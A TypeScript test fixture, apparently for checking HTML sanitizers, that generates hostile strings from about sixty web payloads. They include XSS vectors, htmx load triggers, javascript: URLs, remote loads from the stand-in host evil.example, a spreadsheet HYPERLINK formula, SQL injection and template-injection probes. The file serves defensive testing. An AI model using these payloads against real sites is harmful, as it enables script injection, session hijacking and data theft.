/** Texts that attack the pages that show them. A successful attack sets `hit` or requests evil.example. */

const ACT = 'globalThis.hit=1';
const ELSEWHERE = 'https://evil.example/';

const PAYLOADS = [
  `<script>${ACT}</script>`,
  `<script src=${ELSEWHERE}x.js></script>`,
  `<SCRIPT/x>${ACT}</SCRIPT>`,
  `<img src=x onerror=${ACT}>`,
  `<img src=${ELSEWHERE}pixel>`,
  `<svg onload=${ACT}>`,
  `<svg><script>${ACT}</script></svg>`,
  `<svg><animate onbegin=${ACT} attributeName=x dur=1s>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${ACT}>`,
  `<iframe src="javascript:parent.${ACT}"></iframe>`,
  `<iframe srcdoc="<script>parent.${ACT}</script>"></iframe>`,
  `<object data="javascript:${ACT}"></object>`,
  `<embed src=${ELSEWHERE}>`,
  `<a href="javascript:${ACT}" id=x>click</a>`,
  `<form action=${ELSEWHERE}><button autofocus>x`,
  `<base href=${ELSEWHERE}>`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<link rel=stylesheet href=${ELSEWHERE}x.css>`,
  `<style>@import '${ELSEWHERE}';body{display:none}</style>`,
  `<div style="background:url(${ELSEWHERE})">`,
  `<video src=x onerror=${ACT}><audio src=${ELSEWHERE}>`,
  `<details open ontoggle=${ACT}>`,
  `<input autofocus onfocus=${ACT}>`,
  `<body onload=${ACT}>`,
  `<div hx-get="${ELSEWHERE}" hx-trigger="load">`,
  `<div hx-get="/account" hx-trigger="load" hx-swap="outerHTML">`,
  `<div hx-on:htmx:load="${ACT}" hx-on::load="${ACT}">`,
  `<div data-hx-get="${ELSEWHERE}" data-hx-trigger="load">`,
  `<div hx-ext="sse" sse-connect="${ELSEWHERE}" sse-swap="x">`,
  `<div hx-vals="js:{a:${ACT}}" hx-post="/sign-out" hx-trigger="load">`,
  `<template><script>${ACT}</script></template>`,
  `<noscript><p title="</noscript><img src onerror=${ACT}>">`,
  `<!--><img src onerror=${ACT}>-->`,
  `<![CDATA[><img src onerror=${ACT}>]]>`,
  `<x-y contenteditable onbeforeinput=${ACT}>`,
  `" onmouseover="${ACT}" autofocus onfocus="${ACT}`,
  `' onfocus='${ACT}' autofocus='`,
  `" hx-get="${ELSEWHERE}" hx-trigger="load" x="`,
  `" formaction="${ELSEWHERE}" style="position:fixed;inset:0" x="`,
  `javascript:${ACT}`,
  `JaVaScRiPt:${ACT}//https://app.example/`,
  `java\tscript:${ACT}`,
  `\u0001javascript:${ACT}`,
  `data:text/html,<script>opener.${ACT}</script>`,
  `vbscript:msgbox(1)`,
  `https://app.example/"onmouseover="${ACT}`,
  `https://app.example;script-src-elem *;`,
  `\${${ACT}}`,
  `!\${${ACT}}`,
  '{{constructor.constructor("globalThis.hit=1")()}}',
  '<%= global.process %>',
  `#{7*7}\${7*7}{{7*7}}`,
  "'; DROP TABLE users; --",
  '=HYPERLINK("https://evil.example/";"x")',
  '&lt;script&gt;&amp;&#60;b&#62;&NewLine;',
  '\u202Eevil\u202C \u2066left\u2069 \u200Eto\u200F',
  'Z\u0351\u0362\u030Aa\u0335\u0321l\u0322g\u0315o\u0301',
  '👩‍👩‍👧‍👦 \u{E0041}\u{1F1EC}\u{1F1E7} \uFEFF\u200B\u2028\u2029\u0085',
  'A'.repeat(2_000),
  '<'.repeat(500),
  `${'<b>'.repeat(200)}deep`,
];

/** Prefixes that try to leave the surrounding markup. */
const BREAKERS = [
  '',
  '">',
  "'>",
  '</title></textarea></select>',
  '-->',
  '</a></td></table></main>',
  ']]>',
  '` ',
  '\\',
];

/** Returns the given number of different texts. */
export function hostileStrings(count: number): string[] {
  const all = BREAKERS.flatMap((breaker) => PAYLOADS.map((payload) => breaker + payload));
  if (count >= all.length) return all;
  return Array.from({ length: count }, (_, index) => all[Math.floor((index * all.length) / count)] ?? '');
}
